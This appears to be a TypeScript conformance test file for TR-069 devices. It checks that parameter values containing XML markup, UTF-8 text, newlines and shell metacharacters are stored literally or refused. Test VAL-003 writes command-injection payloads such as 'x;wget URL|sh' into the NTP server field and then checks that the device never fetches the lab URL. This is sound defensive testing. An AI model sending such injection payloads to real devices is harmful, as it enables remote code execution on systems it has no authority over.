/**
 * How the DUT handles what it is given as a value (TR-069 §A.2.1, §3.4 "character escaping"; the hardening the
 * certification plan leaves out, certification-plan.md): markup and non-ASCII text round-trip literally, and shell
 * metacharacters in a parameter a device may hand to a shell (an NTP server) are stored as text or refused with
 * 9007 — and never run: the payload asks the DUT to fetch a URL of the lab's, which must see no such request.
 */
import type { CaseContext, ConformanceCase } from '../case.ts';
import type { RpcOutcome } from '../dut-session.ts';
import {
  describeOutcome,
  faultCode,
  firstWritable,
  labKey,
  parameterFaultCodes,
  readValues,
} from './helpers.ts';

const AREA = 'Value handling';
const REQUIRES = { rpcs: ['SetParameterValues', 'GetParameterValues', 'GetParameterNames'] };
/** How long the lab watches for a payload's fetch after it was written. */
const WATCH_MS = 1000;

function setString(ctx: CaseContext, name: string, value: string): Promise<RpcOutcome> {
  return ctx.rpc({
    method: 'SetParameterValues',
    ParameterList: [{ name, value, type: 'string' }],
    ParameterKey: labKey('val'),
  });
}

/** Sets `value`; expects it read back byte for byte, or (`mayRefuse`) a 9007 with the old value kept. */
async function literal(
  ctx: CaseContext,
  name: string,
  value: string,
  mayRefuse: boolean,
): Promise<void> {
  const before = (await readValues(ctx, [name])).get(name)?.value ?? '';
  const answer = await setString(ctx, name, value);
  const shown = JSON.stringify(value);
  try {
    const read = (await readValues(ctx, [name])).get(name)?.value;
    if (answer.kind === 'fault') {
      const codes = [faultCode(answer), ...parameterFaultCodes(answer)];
      ctx.expect(
        mayRefuse && codes.includes(9007),
        `${shown} ${mayRefuse ? 'stored or refused with 9007' : 'accepted'}, got ${describeOutcome(answer)} [${codes.join(', ')}]`,
      );
      ctx.expect(
        read === before,
        `${name} unchanged after the refusal, got ${JSON.stringify(read)}`,
      );
      ctx.note(`${shown} refused (9007)`);
      return;
    }
    ctx.expect(read === value, `${name} = ${shown} literally, got ${JSON.stringify(read)}`);
  } finally {
    if (answer.kind === 'response') await setString(ctx, name, before);
  }
}

export const VALUE_HANDLING_CASES: ConformanceCase[] = [
  {
    id: 'VAL-001',
    area: AREA,
    title: 'A value with XML markup characters round-trips literally',
    clause: 'TR-069 §3.4 (XML special characters escaped), §A.3.2.1',
    requires: REQUIRES,
    steps: [
      'Set DeviceInfo.ProvisioningCode to <a&b>"x\'y ]]>',
      'Expect it read back exactly; restore the old value',
    ],
    async run(ctx: CaseContext) {
      const name = await firstWritable(ctx, ['{root}DeviceInfo.ProvisioningCode']);
      await literal(ctx, name, `<a&b>"x'y ]]>`, false);
    },
  },
  {
    id: 'VAL-002',
    area: AREA,
    title: 'A non-ASCII UTF-8 value round-trips literally',
    clause: 'TR-069 §3.4 (characters outside ASCII), §A.2.1 (string)',
    requires: REQUIRES,
    steps: [
      'Set DeviceInfo.ProvisioningCode to "Café – ✓ 日本"',
      'Expect it read back exactly; restore the old value',
    ],
    async run(ctx: CaseContext) {
      const name = await firstWritable(ctx, ['{root}DeviceInfo.ProvisioningCode']);
      await literal(ctx, name, 'Café – ✓ 日本', false);
    },
  },
  {
    id: 'VAL-003',
    area: AREA,
    title: 'Shell metacharacters in an NTP server are stored as text (or 9007), never run',
    clause: 'TR-069 §A.3.2.1; certification-plan.md (code injection through parameter values)',
    requires: REQUIRES,
    steps: [
      'Set Time.NTPServer1 to $(wget URL), then `wget URL`, then x;wget URL|sh — URLs of the lab’s file server',
      'Expect each read back literally or refused with 9007, the old value kept',
      `Expect the DUT to keep answering, and no request for those URLs within ${WATCH_MS / 1000} s`,
      'Restore the old value',
    ],
    async run(ctx: CaseContext) {
      const name = await firstWritable(ctx, ['{root}Time.NTPServer1']);
      const names = ['$', '`', ';'].map((_, i) => `inj${i}-${labKey('x').slice(-6)}`);
      const urls = names.map((n) => ctx.files.url(n));
      const payloads = [`$(wget ${urls[0]})`, `\`wget ${urls[1]}\``, `x;wget ${urls[2]}|sh`];
      for (const payload of payloads) await literal(ctx, name, payload, true);
      await new Promise((resolve) => setTimeout(resolve, WATCH_MS));
      const answer = await ctx.rpc({ method: 'GetParameterValues', ParameterNames: [name] });
      ctx.expect(
        answer.kind === 'response',
        `the DUT still answering, got ${describeOutcome(answer)}`,
      );
      const fetched = names.filter((n) => ctx.files.requests(n) > 0);
      ctx.expect(
        fetched.length === 0,
        `no request for the payloads' URLs, got ${fetched.join(', ')}`,
      );
    },
  },
  {
    id: 'VAL-004',
    area: AREA,
    title: 'A value with a line break is stored literally or refused with 9007',
    clause: 'TR-069 §A.2.1 (string), §A.3.2.1',
    requires: REQUIRES,
    steps: [
      'Set Time.NTPServer1 to "pool.ntp.org\\nevil"',
      'Expect it read back exactly, or fault 9007 with the old value kept; restore the old value',
    ],
    async run(ctx: CaseContext) {
      const name = await firstWritable(ctx, ['{root}Time.NTPServer1']);
      await literal(ctx, name, 'pool.ntp.org\nevil', true);
    },
  },
];
